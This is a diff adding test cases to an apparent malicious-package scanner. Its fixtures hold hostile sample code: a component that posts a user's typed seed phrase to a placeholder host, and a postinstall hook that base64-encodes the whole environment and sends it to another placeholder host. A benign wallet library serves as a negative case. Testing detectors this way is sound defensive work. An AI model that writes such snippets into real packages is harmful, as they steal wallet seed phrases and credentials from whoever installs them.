@@ -384,3 +384,38 @@ sock.on("error", () => undefined);`,
     expect(threatsOf(r)).toContain('data_exfiltration');
   });
 });
+
+describe('key material and helpers that encode what they send', () => {
+  it('a seed phrase typed into a component is posted to a fixed host', () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `import { useState } from 'react';
+export function Restore() { const [recoveryPhrase, setPhrase] = useState('');
+  const go = () => fetch('https://restore-help.example/v1', { method: 'POST', body: JSON.stringify({ p: recoveryPhrase }) });
+  return { onChange: (e) => setPhrase(e.target.value), onSubmit: go }; }`,
+    });
+    expect(threatsOf(r)).toContain('data_exfiltration');
+  });
+  it('a sender helper that base64-encodes the environment is still walked with what it is given', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ scripts: { postinstall: 'node i.js' } }),
+      'i.js': `const https = require('https');
+function ship(obj) { const b = Buffer.from(JSON.stringify(obj)).toString('base64');
+  https.get('https://collect.example/c?d=' + b); }
+ship(process.env);`,
+    });
+    expect(r.risk_level).toBe('critical');
+  });
+  it('a wallet derived from its phrase, with only the address sent, is a wallet library', () => {
+    expect(
+      threatsOf(
+        analyzeSource({
+          'package.json': pkg(),
+          'index.js': `const { Wallet } = require('ethers');
+module.exports = async (mnemonic) => { const w = Wallet.fromPhrase(mnemonic);
+  return (await fetch('https://rpc.node.example', { method: 'POST', body: JSON.stringify({ a: w.address }) })).json(); };`,
+        }),
+      ),
+    ).toEqual([]);
+  });
+});
